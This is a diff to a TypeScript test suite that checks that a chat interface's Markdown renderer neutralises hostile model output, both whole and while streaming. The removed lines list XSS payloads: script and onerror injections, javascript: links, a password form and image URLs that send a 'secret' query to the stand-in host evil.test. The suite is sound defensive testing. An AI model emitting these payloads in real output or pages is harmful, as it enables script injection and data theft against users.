@@ -1,35 +1,27 @@
+import { readFileSync } from "node:fs";
 import { describe, expect, test } from "vitest";
-import { everyPrefixOf, rendered, streamed } from "./render_support";
+import { drawnIn, everyPrefixOf, rendered, streamed } from "./render_support";
 
-const HOSTILE = [
-  "<script>alert(1)</script>",
-  "<img src=x onerror=alert(1)>",
-  "<svg onload=alert(1)><script>alert(1)</script></svg>",
-  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-  "<form action=https://evil.test><input name=password type=password></form>",
-  "<a href='javascript:alert(1)' id=config name=cookie ping=https://evil.test>x</a>",
-  "<div style='position:fixed;inset:0'>Session expired</div>",
-  "<style>@import 'https://evil.test'</style><link rel=stylesheet href=https://evil.test>",
-  "[x](javascript:alert(1))",
-  "[x](JaVaScRiPt:alert(1))",
-  "[x](&#106;avascript:alert(1))",
-  "[x](data:text/html;base64,PHNjcmlwdD4=)",
-  "[x](vbscript:msgbox(1))",
-  "[out](/accounts/logout/)",
-  "[out](//evil.test/x)",
-  "[out](\\\\evil.test/x)",
-  '![x](x" onerror="alert(1))',
-  "![a](https://evil.test/?q=secret)",
-  "![a][r]\n\n[r]: https://evil.test/?q=secret",
-  '[a](https://evil.test "title\\" onmouseover=\\"alert(1)")',
-  '<https://evil.test/" onmouseover=alert(1)>',
-  '```html" onmouseover="alert(1)\n<b>\n```',
-  "| <img src=x onerror=alert(1)> |\n|---|\n| <svg/onload=alert(1)> |",
-  "$\\href{javascript:alert(1)}{x}$",
-  "$\\includegraphics{https://evil.test/x.png}$",
-  "$\\htmlData{x=y}{a}$ $\\unknown<img src=x onerror=alert(1)>$",
-  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-];
+/** The list that the browser's tests of the policy and the sanitiser go by: texts by name, by what they would do. */
+const ATTACKS: Record<string, Record<string, string>> = JSON.parse(
+  readFileSync("tests/attacks.json", "utf8").replaceAll("{evil}", "https://evil.test"),
+);
+const HOSTILE = Object.values(ATTACKS).flatMap((kind) => Object.entries(kind));
+
+function expectHarmless(page: HTMLElement): void {
+  const made = page.querySelectorAll(
+    "script, style, link, img, svg:not(.katex svg), iframe, form, input, object, embed, base, meta, video, audio",
+  );
+  expect([...made].map((element) => element.outerHTML)).toEqual([]);
+  for (const element of page.querySelectorAll(":not(.katex *)")) {
+    const names = element.getAttributeNames();
+    expect(
+      names.filter((name) => /^on|^(style|id|name|src|srcset|srcdoc|ping|xlink:href|action)$/.test(name)),
+    ).toEqual([]);
+  }
+  for (const link of page.querySelectorAll("a[href]"))
+    expect(link.getAttribute("href")).toMatch(/^(https?:\/\/|mailto:|#)/);
+}
 
 describe("whatever a model writes", () => {
   const settings = [
@@ -37,34 +29,21 @@ describe("whatever a model writes", () => {
     (text: string) => `- ${text.replaceAll("\n", "\n  ")}`,
     (text: string) => `> ${text.replaceAll("\n", "\n> ")}`,
     (text: string) => `# ${text}`,
+    (text: string) => `| ${text.replaceAll("\n", " ")} |\n| --- |\n| ${text.replaceAll("\n", " ")} |`,
+    (text: string) => `[${text}](https://a.test "${text.replaceAll('"', "")}")`,
+    (text: string) => `![${text}](https://a.test)`,
   ];
 
-  test.each(HOSTILE)("nothing runs, posts, poses or is fetched: %s", async (payload) => {
-    for (const set of settings) {
-      const page = await rendered(set(payload));
-
-      expect(
-        page.querySelector(
-          "script, style, link, img, svg:not(.katex svg), iframe, form, input, object, embed, base, meta",
-        ),
-      ).toBeNull();
-      for (const element of page.querySelectorAll(":not(.katex *)")) {
-        const names = element.getAttributeNames();
-        expect(
-          names.filter((name) => /^on|^(style|id|name|src|srcset|srcdoc|ping|xlink:href|action)$/.test(name)),
-        ).toEqual([]);
-      }
-      for (const link of page.querySelectorAll("a"))
-        expect(link.getAttribute("href")).toMatch(/^(https?:\/\/|mailto:)/);
-    }
+  test.each(HOSTILE)("nothing runs, posts, poses or is fetched: %s", async (_name, payload) => {
+    for (const set of settings) expectHarmless(await rendered(set(payload)));
   });
 
-  test.each(HOSTILE)("nor while it is still arriving, letter by letter: %s", async (payload) => {
+  test.each(HOSTILE)("nor while it is still arriving, letter by letter: %s", async (_name, payload) => {
     const whole = await rendered(payload);
 
-    const grown = await streamed(payload, everyPrefixOf(payload));
+    const grown = await streamed(payload, everyPrefixOf(payload), expectHarmless);
 
-    expect(grown.innerHTML).toBe(whole.innerHTML);
+    expect(drawnIn(grown)).toBe(drawnIn(whole));
   });
 
   test("a class of the page cannot be worn by a reply", async () => {
